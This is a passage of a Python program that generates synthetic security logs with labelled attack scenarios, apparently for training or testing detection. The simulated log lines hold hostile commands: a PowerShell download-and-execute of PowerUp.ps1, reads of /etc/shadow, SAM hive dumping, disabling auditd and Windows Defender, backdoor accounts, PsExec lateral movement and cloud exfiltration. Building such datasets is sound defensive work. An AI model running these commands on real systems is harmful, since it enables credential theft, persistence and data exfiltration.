            app = EXT_APP.get(ext, 'explorer.exe')
            pname = proc_name or (MAC_APP.get(app, app) if mac else app)
        orig = None
        if action == 'rename':
            orig = path.rsplit('.', 1)[0] + '~tmp.' + ext
        g.file(t, u.ws, u, action, path, size, pname, rng, tag=tag, orig=orig, mac=mac)

    # ================================================================ attacks
    def atk_off_hours_spree(self, a, u, d, sess):
        o, g = self.o, self.g
        rng = a['rng']
        tag = a['id']
        T = lambda h: o.ts(d, h, u.tz)
        s = rng.uniform(0.2, 2.2)
        e = min(4.95, s + rng.uniform(1.5, 2.8))
        pub = u.home_ip if rng.random() < 0.7 else public_ip(rng, u.cc)
        src = '10.50.%d.%d' % (rng.randint(0, 63), rng.randint(2, 254))
        g.vpn(T(s) - 60, u, 'gateway-auth', 'success', pub, u.cc, rng, tag=tag)
        g.vpn(T(s) - 57, u, 'gateway-connected', 'success', pub, u.cc, rng, priv_ip=src, tag=tag)
        lid = g.w_logon(T(s), u.ws, u, 11 if rng.random() < 0.5 else 7, '127.0.0.1', u.ws, rng, tag=tag)
        g.w_kerb(T(s) + 1, u, src, rng, tag=tag)
        for srv in ['fs01', 'fs02'] + (['erp01', 'sql01'] if rng.random() < 0.4 else []):
            l2 = g.w_logon(T(rng.uniform(s, s + 0.3)), srv, u, 3, src, u.ws, rng, auth='Kerberos', tag=tag)
            g.w_logoff(T(e) + rng.uniform(0, 300), srv, u, 3, l2, tag=tag)
        n = rng.randint(250, 900)
        depts = [u.dept] + rng.sample(DEPT_ORDER, 3)
        for i in range(n):
            tt = T(s + (e - s) * (i + rng.random()) / n)
            dp = rng.choice(depts)
            act = wchoice(rng, ['open', 'creation', 'modification', 'rename', 'deletion'], [55, 25, 10, 5, 5])
            self.file_event(u, tt, rng, tag=tag, share_p=0.75, dept=dp, action=act,
                            proc_name='explorer.exe' if act in ('open', 'creation') and rng.random() < 0.5 else None)
        for _ in range(rng.randint(3, 12)):
            g.proc(T(rng.uniform(s, e)), u.ws, u, rng.choice(['explorer.exe', 'EXCEL.EXE', 'cmd.exe', '7z.exe', 'robocopy.exe']),
                   'C:\\Windows\\System32\\robocopy.exe', 'robocopy \\\\fs02\\%s C:\\Users\\%s\\Documents\\sync /E /Z' % (rng.choice(depts).capitalize(), u.name),
                   'explorer.exe', rng, tag=tag)
        for _ in range(rng.randint(5, 30)):
            g.web(T(rng.uniform(s, e)), u, src, wchoice(rng, u.domains, u.dom_w), rng, tag=tag)
        if u.servers:
            for _ in range(rng.randint(1, 3)):
                h = rng.choice([x for x in u.servers if x != 'bastion-01'])
                g.ssh_session(T(rng.uniform(s, e - 0.3)), h, u.name, u.uid, src, rng.uniform(300, 2400), rng,
                              method=u.ssh_auth, keytype=u.keytype, fp=u.fingerprint, tag=tag)
        g.w_logoff(T(e) + 30, u.ws, u, 11, lid, tag=tag, user_initiated=True)
        g.vpn(T(e) + 120, u, 'gateway-logout', 'success', pub, u.cc, rng, priv_ip=src, tag=tag, reason='client logout')

    def atk_brute_force_takeover(self, a, u, d, sess):
        o, g = self.o, self.g
        rng = a['rng']
        tag = a['id']
        if 'ip' not in a:
            net, cc = rng.choice(ATTACKER_NETS)
            a['ip'], a['cc'] = '%s.%d' % (net, rng.randint(2, 250)), cc
            a['net'] = net
            a['ws'] = 'DESKTOP-%s' % b64ish('atk%d%d' % (o.seed, u.idx), 7).upper().replace('/', 'Q').replace('+', 'X')
            first = True
        else:
            first = False
            a['ip'] = '%s.%d' % (a['net'], rng.randint(2, 250))
        ip, cc = a['ip'], a['cc']
        t = o.ts(d, rng.uniform(0, 23.0) if rng.random() < 0.5 else rng.uniform(1, 5), u.tz)
        if a['variant'] == 'ssh':
            b = 'bastion-01'
            if first:
                nfail = rng.randint(40, 220)
                i = 0
                while i < nfail:
                    pid = o.pid(b, rng)
                    port = rng.randint(1024, 65000)
                    k = min(nfail - i, rng.randint(3, 6))
                    for j in range(k):
                        g.auth(t, b, 'sshd', pid, 'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s' % (ip, u.name), tag)
                        g.auth(t + 2, b, 'sshd', pid, 'Failed password for %s from %s port %d ssh2' % (u.name, ip, port), tag)
                        t += rng.uniform(2.5, 6)
                    if k >= 6:
                        g.auth(t, b, 'sshd', pid, 'error: maximum authentication attempts exceeded for %s from %s port %d ssh2 [preauth]' % (u.name, ip, port), tag)
                        g.auth(t + 0.01, b, 'sshd', pid, 'Disconnecting authenticating user %s %s port %d: Too many authentication failures [preauth]' % (u.name, ip, port), tag)
                        g.auth(t + 0.02, b, 'sshd', pid, 'PAM %d more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=%s  user=%s' % (k - 1, ip, u.name), tag)
                    else:
                        g.auth(t, b, 'sshd', pid, 'Connection closed by authenticating user %s %s port %d [preauth]' % (u.name, ip, port), tag)
                    i += k
                    t += rng.uniform(1, 20)
            dur = rng.uniform(1800, 7200)
            g.ssh_session(t, b, u.name, u.uid, ip, dur, rng, method='password', tag=tag,
                          sudo_fail=['/bin/bash', '/usr/bin/cat /etc/shadow'] if rng.random() < 0.7 else None)
            bip = o.lin[b]['ip']
            cand = [x for x in o.lin_names if x not in u.servers and x != b]
            hops = rng.sample(cand, rng.randint(3, 7))
            tt = t + rng.uniform(120, 600)
            for h in hops:
                ok = rng.random() < 0.8
                if ok:
                    g.ssh_session(tt, h, u.name, u.uid, bip, rng.uniform(60, 900), rng, method='password', tag=tag,
                                  sudo_fail=['/usr/bin/id'] if rng.random() < 0.4 else None)
                else:
                    pid = o.pid(h, rng)
                    g.auth(tt, h, 'sshd', pid, 'Failed password for %s from %s port %d ssh2' % (u.name, bip, rng.randint(32768, 60999)), tag)
                tt += rng.uniform(60, 900)
        else:
            # VPN password spraying/brute force, then internal access from attacker host
            if first:
                nfail = rng.randint(30, 160)
                for i in range(nfail):
                    g.vpn(t, u, 'gateway-auth', 'failure', ip if rng.random() < 0.7 else '%s.%d' % (a['net'], rng.randint(2, 250)),
                          cc, rng, tag=tag, reason='Authentication failed: Invalid username or password')
                    t += rng.uniform(1, 15)
            src = '10.50.%d.%d' % (rng.randint(64, 127), rng.randint(2, 254))
            g.vpn(t, u, 'gateway-auth', 'success', ip, cc, rng, tag=tag)
            g.vpn(t + 2, u, 'gateway-connected', 'success', ip, cc, rng, priv_ip=src, tag=tag)
            tt = t + rng.uniform(60, 300)
            g.w_kerb(tt, u, src, rng, tag=tag)
            targets = ['fs01', 'fs02'] + rng.sample([x for x in WIN_SERVERS if x not in u.win_servers and x not in ('fs01', 'fs02')], rng.randint(3, 6))
            for h in targets:
                if rng.random() < 0.25:
                    g.w_fail(tt, h, u.name, 3, src, a['ws'], sid=u.sid, tag=tag, auth='NTLM')
                l2 = g.w_logon(tt + 1, h, u, 3, src, a['ws'], rng, tag=tag, auth='NTLM')
                g.w_logoff(tt + rng.uniform(30, 1200), h, u, 3, l2, tag=tag)
                tt += rng.uniform(30, 400)
            for i in range(rng.randint(80, 400)):
                dp = rng.choice(DEPT_ORDER)
                path, ext = self.rand_file(self._as_windows(u), rng, share=True, dept=dp)
                srv = 'fs02' if path.startswith('\\\\fs02') else 'fs01'
                local = 'D:\\Shares\\' + path.split('\\', 3)[3]
                rec_t = t + rng.uniform(300, 5400)
                g.file(rec_t, srv, u, 'open', local, rng.lognormvariate(math.log(EXT_SIZE.get(ext, 1e5)), 0.9), 'System', rng, tag=tag)
            g.vpn(t + rng.uniform(5400, 9000), u, 'gateway-logout', 'success', ip, cc, rng, priv_ip=src, tag=tag,
                  reason='client logout')

    def _as_windows(self, u):
        if u.os == 'windows':
            return u
        class W:
            pass
        w = W()
        w.__dict__.update(u.__dict__)
        w.os = 'windows'
        return w

    def atk_removable_media_exfiltration(self, a, u, d, sess):
        o, g = self.o, self.g
        rng = a['rng']
        tag = a['id']
        s, e = (sess[0], sess[1]) if sess else (u.start, u.start + u.day_len)
        T = lambda h: o.ts(d, h, u.tz)
        if 'model' not in a:
            a['model'] = rng.choice(USB_MODELS)
            a['serial'] = b64ish('exf%d%s' % (o.seed, u.name), 16).upper().replace('+', '8').replace('/', '9')
        letter = rng.choice(['E', 'F', 'G'])
        t = T(rng.uniform(s + 0.5, max(s + 0.6, e - 1.5)))
        g.device(t, u.ws, u, 'device-connected', a['model'], a['serial'], rng, tag=tag, letter=letter)
        n = rng.randint(150, 900)
        span = rng.uniform(1200, 5400)
        for i in range(n):
            tt = t + 15 + span * (i + rng.random()) / n
            # read from share / documents then write to removable media
            if rng.random() < 0.35:
                self.file_event(u, tt - 0.5, rng, tag=tag, share_p=0.7, action='open', proc_name='explorer.exe' if u.os == 'windows' else 'Finder')
            self.file_event(u, tt, rng, tag=tag, usb=True, copy=True, letter=letter)
        if u.os == 'windows' and rng.random() < 0.6:
            g.proc(t + 10, u.ws, u, 'robocopy.exe', 'C:\\Windows\\System32\\robocopy.exe',
                   'robocopy C:\\Users\\%s\\Documents %s:\\backup /E /MT:8' % (u.name, letter), 'cmd.exe', rng, tag=tag)
        g.device(t + span + rng.uniform(60, 600), u.ws, u, 'device-disconnected', a['model'], a['serial'], rng, tag=tag, letter=letter)

    def atk_lateral_movement(self, a, u, d, sess):
        o, g = self.o, self.g
        rng = a['rng']
        tag = a['id']
        s, e, src, remote = sess if sess else (u.start, u.start + u.day_len, u.ws_ip, False)
        T = lambda h: o.ts(d, h, u.tz)
        t = T(rng.uniform(s + 0.5, max(s + 0.6, e - 1.5)))
        span = rng.uniform(1200, 5400)
        if a['variant'] == 'windows':
            pool = [x for x in WIN_SERVERS if x not in u.win_servers and x not in u.rdp_servers] + \
                   [x.ws for x in o.users if x is not u and x.os == 'windows' and rng.random() < 0.15]
            targets = rng.sample(pool, min(len(pool), rng.randint(8, 20)))
            g.proc(t - 30, u.ws, u, 'cmd.exe', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c net view /domain', 'explorer.exe', rng, tag=tag)
            for i, h in enumerate(targets):
                tt = t + span * i / len(targets) + rng.uniform(0, 60)
                tool = rng.choice(['psexec', 'wmic', 'netuse', 'rdp'])
                g.win(tt - 1, u.ws, '4648', 'logged-in-explicit', ['authentication'], ['start'], 'success', u.name,
                      sid=u.sid, tag=tag, extra_data={'TargetServerName': h, 'TargetInfo': h,
                                                       'ProcessName': 'C:\\Windows\\System32\\cmd.exe'})
                if rng.random() < 0.2:
                    g.w_fail(tt, h, u.name, 3, src, u.ws, sid=u.sid, tag=tag, auth='NTLM')
                    continue
                if tool == 'rdp':
                    l2 = g.w_logon(tt, h, u, 10, src, u.ws, rng, tag=tag)
                    g.w_logoff(tt + rng.uniform(120, 900), h, u, 10, l2, tag=tag, user_initiated=True)
                else:
                    l2 = g.w_logon(tt, h, u, 3, src, u.ws, rng, tag=tag, auth='NTLM' if tool != 'wmic' else 'Kerberos')
                    g.w_logoff(tt + rng.uniform(5, 300), h, u, 3, l2, tag=tag)
                cmd = {'psexec': 'PsExec64.exe \\\\%s -accepteula -s cmd.exe' % h,
                       'wmic': 'wmic /node:%s process call create "cmd.exe /c whoami > C:\\Windows\\Temp\\o.txt"' % h,
                       'netuse': 'net use \\\\%s\\C$ /user:%s\\%s' % (h, o.netbios, u.name),
                       'rdp': 'mstsc.exe /v:%s' % h}[tool]
                pname = {'psexec': 'PsExec64.exe', 'wmic': 'WMIC.exe', 'netuse': 'net.exe', 'rdp': 'mstsc.exe'}[tool]
                g.proc(tt - 2, u.ws, u, pname, 'C:\\Users\\%s\\Downloads\\%s' % (u.name, pname) if tool == 'psexec' else
                       'C:\\Windows\\System32\\%s' % pname, cmd, 'cmd.exe', rng, tag=tag)
                if tool == 'psexec':
                    g.proc(tt + 1, h, u, 'PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe', 'services.exe', rng, tag=tag)
        else:
            cand = [x for x in o.lin_names if x not in u.servers and x != 'bastion-01']
            targets = rng.sample(cand, min(len(cand), rng.randint(8, 15)))
            prev_ip = src
            first_h = rng.choice([x for x in u.servers if x != 'bastion-01'])
            g.ssh_session(t - 60, first_h, u.name, u.uid, src, span + 600, rng, method=u.ssh_auth,
                          keytype=u.keytype, fp=u.fingerprint, tag=tag)
            prev_ip = o.lin[first_h]['ip']
            tt = t
            for h in targets:
                if rng.random() < 0.2:
                    pid = o.pid(h, rng)
                    port = rng.randint(32768, 60999)
                    g.auth(tt, h, 'sshd', pid, 'Failed publickey for %s from %s port %d ssh2: %s SHA256:%s' % (u.name, prev_ip, port, u.keytype, u.fingerprint), tag)
                    g.auth(tt + 3, h, 'sshd', pid, 'Failed password for %s from %s port %d ssh2' % (u.name, prev_ip, port), tag)
                    g.auth(tt + 4, h, 'sshd', pid, 'Connection closed by authenticating user %s %s port %d [preauth]' % (u.name, prev_ip, port), tag)
                else:
                    g.ssh_session(tt, h, u.name, u.uid, prev_ip, rng.uniform(30, 600), rng,
                                  method='publickey' if rng.random() < 0.7 else 'password', keytype=u.keytype,
                                  fp=u.fingerprint, tag=tag)
                    if rng.random() < 0.5:
                        prev_ip = o.lin[h]['ip']
                tt += span / len(targets) * rng.uniform(0.5, 1.5)

    def atk_privilege_escalation(self, a, u, d, sess):
        o, g = self.o, self.g
        rng = a['rng']
        tag = a['id']
        s, e, src, remote = sess if sess else (u.start, u.start + u.day_len, u.ws_ip, False)
        T = lambda h: o.ts(d, h, u.tz)
        t = T(rng.uniform(s + 0.5, max(s + 0.6, e - 1)))
        first = not a.get('done')
        a['done'] = True
        if a['variant'] == 'linux':
            h = a.setdefault('host', rng.choice([x for x in u.servers if x != 'bastion-01']))
            grp = 'wheel' if os_family(o, h) == 'rhel' else 'sudo'
            dur = rng.uniform(1800, 5400)
            pid, tty = g.ssh_session(t, h, u.name, u.uid, src, dur, rng, method=u.ssh_auth, keytype=u.keytype,
                                     fp=u.fingerprint, tag=tag)
            tt = t + rng.uniform(30, 200)
            home = '/home/%s' % u.name
            if first:
                for c in rng.sample(['/bin/bash', '/usr/bin/cat /etc/shadow', '/usr/bin/id', '/bin/su -', '/usr/bin/vi /etc/sudoers'], rng.randint(1, 3)):
                    g.auth(tt, h, 'sudo', None, 'pam_unix(sudo:auth): authentication failure; logname=%s uid=%d euid=0 tty=/dev/%s ruser=%s rhost=  user=%s' % (u.name, u.uid, tty, u.name, u.name), tag)
                    g.auth(tt + 4, h, 'sudo', None, '%s : user NOT in sudoers ; TTY=%s ; PWD=%s ; USER=root ; COMMAND=%s'
                           % (u.name.rjust(len(u.name) + 2), tty, home, c), tag)
                    tt += rng.uniform(20, 120)
                spid = o.pid(h, rng)
                for _ in range(rng.randint(1, 3)):
                    g.auth(tt, h, 'su', spid, 'pam_unix(su:auth): authentication failure; logname=%s uid=%d euid=0 tty=/dev/%s ruser=%s rhost=  user=root' % (u.name, u.uid, tty, u.name), tag)
                    g.auth(tt + 2, h, 'su', spid, 'FAILED SU (to root) %s on %s' % (u.name, tty), tag)
                    tt += rng.uniform(10, 60)
                    spid = o.pid(h, rng)
                # success (leaked root password / weak root password)
                g.auth(tt, h, 'su', spid, '(to root) %s on %s' % (u.name, tty), tag)
                g.auth(tt + 0.01, h, 'su', spid, g.pam_open(h, 'su', 'root', 0, by_user=u.name, by_uid=u.uid), tag)
                tt += rng.uniform(20, 90)
                p2 = o.pid(h, rng)
                g.auth(tt, h, 'usermod', p2, "add '%s' to group '%s'" % (u.name, grp), tag)
                g.auth(tt + 0.01, h, 'usermod', p2, "add '%s' to shadow group '%s'" % (u.name, grp), tag)
                if rng.random() < 0.6:
                    tt += rng.uniform(20, 120)
                    bd = rng.choice(['sysupd', 'svc-monitor', 'backup2', 'nagios2'])
                    gid = rng.randint(1050, 1099)
                    p3 = o.pid(h, rng)
                    g.auth(tt, h, 'groupadd', p3, 'group added to /etc/group: name=%s, GID=%d' % (bd, gid), tag)
                    g.auth(tt + 0.01, h, 'groupadd', p3, 'group added to /etc/gshadow: name=%s' % bd, tag)
                    g.auth(tt + 0.02, h, 'groupadd', p3, 'new group: name=%s, GID=%d' % (bd, gid), tag)
                    p4 = o.pid(h, rng)
                    g.auth(tt + 0.5, h, 'useradd', p4, 'new user: name=%s, UID=%d, GID=%d, home=/home/%s, shell=/bin/bash, from=/dev/%s' % (bd, gid, gid, bd, tty), tag)
                    g.auth(tt + 0.6, h, 'usermod', p4 + 1, "add '%s' to group '%s'" % (bd, grp), tag)
                    g.auth(tt + 0.61, h, 'usermod', p4 + 1, "add '%s' to shadow group '%s'" % (bd, grp), tag)
                g.auth(tt + rng.uniform(60, 400), h, 'su', spid, 'pam_unix(su:session): session closed for user root', tag)
                tt += rng.uniform(400, 900)
            for c in ['/bin/bash', '/usr/bin/cat /etc/shadow', '/usr/bin/tar czf /tmp/.c.tgz /etc /root/.ssh',
                      '/usr/bin/systemctl stop auditd', '/usr/bin/crontab -e', '/usr/bin/ssh-keygen -A']:
                if rng.random() < 0.7:
                    g.sudo(tt, h, u.name, u.uid, tty, home, c, tag)
                    tt += rng.uniform(10, 200)
            # and a sudo on another host he never had sudo on (group membership replicated via config mgmt? no: direct)
        else:
            host = u.ws
            if u.os != 'windows':
                host = rng.choice(['rdsh01', 'app-w01'])
            if first:
                g.proc(t, host, u, 'whoami.exe', 'C:\\Windows\\System32\\whoami.exe', 'whoami /priv', 'cmd.exe', rng, tag=tag)
                g.proc(t + 5, host, u, 'net.exe', 'C:\\Windows\\System32\\net.exe', 'net localgroup administrators', 'cmd.exe', rng, tag=tag)
                g.proc(t + 40, host, u, 'powershell.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
                       'powershell.exe -ep bypass -c IEX (New-Object Net.WebClient).DownloadString(\'http://10.20.%d.%d/PowerUp.ps1\'); Invoke-AllChecks'
                       % (rng.randint(1, 40), rng.randint(2, 250)), 'cmd.exe', rng, tag=tag)
                g.proc(t + 300, host, u, 'net.exe', 'C:\\Windows\\System32\\net.exe',
                       'net localgroup administrators %s /add' % u.name, 'cmd.exe', rng, tag=tag)
                g.win(t + 300.5, host, '4732', 'added-member-to-group', ['iam'], ['group', 'change'], 'success', u.name,
                      sid=u.sid, target=u.name, group='Administrators', tag=tag,
                      extra_data={'MemberSid': u.sid, 'MemberName': '-', 'TargetUserName': 'Administrators',
                                  'TargetDomainName': 'Builtin', 'TargetSid': 'S-1-5-32-544',
                                  'SubjectUserName': u.name, 'SubjectDomainName': o.netbios})
                if rng.random() < 0.6:
                    g.win(t + 600, 'dc01', '4728', 'added-member-to-group', ['iam'], ['group', 'change'], 'success',
                          u.name, sid=u.sid, target=u.name, group='Domain Admins', tag=tag,
                          extra_data={'MemberSid': u.sid, 'TargetUserName': 'Domain Admins',
                                      'SubjectUserName': u.name, 'SubjectDomainName': o.netbios})
            lid = g.w_logon(t + 700, host, u, 2 if host == u.ws else 10, '127.0.0.1' if host == u.ws else src, u.ws, rng, special=True, tag=tag)
            for c in ['reg save HKLM\\SAM C:\\Windows\\Temp\\sam.hiv', 'vssadmin list shadows',
                      'sc config WinDefend start= disabled', 'schtasks /create /tn Updater /tr C:\\ProgramData\\upd.exe /sc onlogon /ru SYSTEM']:
                if rng.random() < 0.7:
                    g.proc(t + rng.uniform(720, 2400), host, u, c.split()[0] + '.exe', 'C:\\Windows\\System32\\%s.exe' % c.split()[0],
                           c, 'cmd.exe', rng, tag=tag)
            if u.servers and rng.random() < 0.5:
                h = rng.choice([x for x in u.servers if x != 'bastion-01'])
                pid, tty = g.ssh_session(t + 900, h, u.name, u.uid, src, 600, rng, method=u.ssh_auth,
                                         keytype=u.keytype, fp=u.fingerprint, tag=tag,
                                         sudo_fail=['/bin/bash'])

    def atk_cloud_upload(self, a, u, d, sess):
        o, g = self.o, self.g
        rng = a['rng']
        tag = a['id']
        s, e, src, remote = sess if sess else (u.start, u.start + u.day_len, u.ws_ip, False)
        T = lambda h: o.ts(d, h, u.tz)
        if 'svc' not in a:
            used = set(u.domains) | set(u.cloud)
            cands = [c for c in EXFIL_CLOUD if c[0] not in used and c[1] not in used]
            a['svc'] = rng.sample(cands, min(len(cands), rng.randint(1, 2)))
        late = rng.random() < 0.4
        t = T(rng.uniform(e - 0.5, e + 2.0) if late else rng.uniform(s + 1, max(s + 1.1, e - 2)))
        # stage: compress documents
        if u.os == 'windows':
            arch = 'C:\\Users\\%s\\AppData\\Local\\Temp\\%s.7z' % (u.name, rng.choice(['backup', 'docs', 'archive', 'q_data']))
            g.proc(t - 600, u.ws, u, '7z.exe', 'C:\\Program Files\\7-Zip\\7z.exe', '7z.exe a -mx1 %s C:\\Users\\%s\\Documents\\* \\\\fs01\\%s\\*' % (arch, u.name, u.dept.capitalize()),
                   'explorer.exe', rng, tag=tag)
            for i in range(rng.randint(40, 200)):
                self.file_event(u, t - 600 + i * rng.uniform(0.5, 3), rng, tag=tag, share_p=0.5, action='open', proc_name='7z.exe')
            for k in range(rng.randint(1, 4)):
                g.file(t - 120 + k, u.ws, u, 'creation', arch.replace('.7z', '.7z.%03d' % (k + 1)), rng.uniform(5e8, 2e9), '7z.exe', rng, tag=tag)
        for ui, up, ptmpl in a['svc']:
            g.web(t, u, src, ui, rng, path='/', tag=tag)
            g.web(t + 3, u, src, ui, rng, path='/login', method='POST', tag=tag)
            n = rng.randint(15, 80)
            tt = t + 20
            for i in range(n):
                host = up.format(n='%d' % rng.randint(100, 400) + 'n%d' % rng.randint(1, 200))
                path = ptmpl.format(tok=b64ish('%d%d%d' % (o.seed, u.idx, i), 22).replace('/', '_').replace('+', '-'))
                size = int(rng.lognormvariate(math.log(60e6), 0.8))
                g.web(tt, u, src, host, rng, method='PUT' if 'dropbox' in host or 'transfer.sh' in host else 'POST',
                      path=path, req_bytes=size, resp_bytes=rng.randint(200, 2000), status=200, tag=tag)
                tt += size / rng.uniform(2e6, 12e6) + rng.uniform(0.5, 5)
            t = tt + 60

    def atk_departing_employee(self, a, u, d, sess):
        # behaviour is woven into the daily session (drift); nothing extra here
        return

    def atk_transaction_velocity(self, a, u, d, sess):
        o, g = self.o, self.g
        rng = a['rng']
        tag = a['id']
        s, e, src, remote = sess if sess else (u.start, u.start + u.day_len, u.ws_ip, False)
        T = lambda h: o.ts(d, h, u.tz)
        if 'cps' not in a:
            a['cps'] = [o.new_cp(rng, u.cc, foreign=rng.random() < 0.6) for _ in range(rng.randint(5, 15))]
            a['threshold'] = {'USD': 10000, 'EUR': 10000, 'GBP': 10000, 'INR': 1000000}[u.currency]
        thr = a['threshold']
        start = rng.uniform(s + 0.5, max(s + 0.6, e - 2))
        t = T(start)
        n = rng.randint(25, 70)
        span = rng.uniform(1800, 6000)
        structuring = rng.random() < 0.75
        for i in range(n):
            tt = t + span * (i + rng.random()) / n
            cp = rng.choice(a['cps'])
            if structuring:
                amt = thr * rng.uniform(0.90, 0.999)
            else:
                amt = rng.lognormvariate(math.log(u.amt_med * 1.5), 0.4)
            g.payment(tt, u, src, 'wire-transfer' if rng.random() < 0.8 else 'payment', amt, u.currency, cp, rng, tag=tag)


# ----------------------------------------------------------------------------------------------
def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument('--users', type=int, default=300)
    ap.add_argument('--days', type=int, default=35)
    ap.add_argument('--seed', type=int, default=7)
    ap.add_argument('--out', required=True)
    args = ap.parse_args()
    if args.days < 20:
        ap.error('need at least 20 days')
    if args.users < 60:
        ap.error('need at least 60 users (2 per scenario + enough finance users)')
    t_start = time.time()
    org = Org(args.seed, args.users, args.days)
    sink = Sink(args.out, org.t0, args.days, org)
    sim = Sim(org, sink)
    sim.run()
    # labels
    attacks = []
    for a in sim.attacks:
        days = set(sink.tag_days.get(a['id'], set()))
        if a['scenario'] == 'departing_employee':
            days |= set(a['days'])
        days = sorted(x for x in days if 0 <= x < args.days)
        attacks.append({'user': a['user'], 'scenario': a['scenario'],
                        'days': [org.dstr[x] for x in days]})
    labels = {'seed': args.seed, 'start': org.dstr[0], 'end': org.dstr[-1],
              'users': [u.name for u in org.users], 'attacks': attacks}
    with open(os.path.join(args.out, 'labels.json'), 'w') as f:
        json.dump(labels, f, indent=1)
    # summary
    total = 0
    print('organisation: %s (%s), HQ UTC%+g, branch UTC%+g, %s .. %s, %d users' % (
        org.co, org.ad_domain, org.hq_tz, org.br_tz, org.dstr[0], org.dstr[-1], len(org.users)))
    print('files written:')
    for s in STREAMS:
        print('  %-40s %9d lines' % (sink.paths[s], sink.counts[s]))
        total += sink.counts[s]
    print('  %-40s' % os.path.join(args.out, 'labels.json'))
    print('total lines: %d' % total)
    print('attacked users per scenario:')
    by = {}
    for a, lab in zip(sim.attacks, attacks):
        by.setdefault(a['scenario'], []).append('%s%s [%s]' % (
            a['user'], ('/' + a['variant']) if 'variant' in a else '', ', '.join(lab['days'])))
    for sc in sorted(by):
        print('  %-30s %s' % (sc, '; '.join(by[sc])))
    print('elapsed %.1fs' % (time.time() - t_start))


if __name__ == '__main__':
    main()
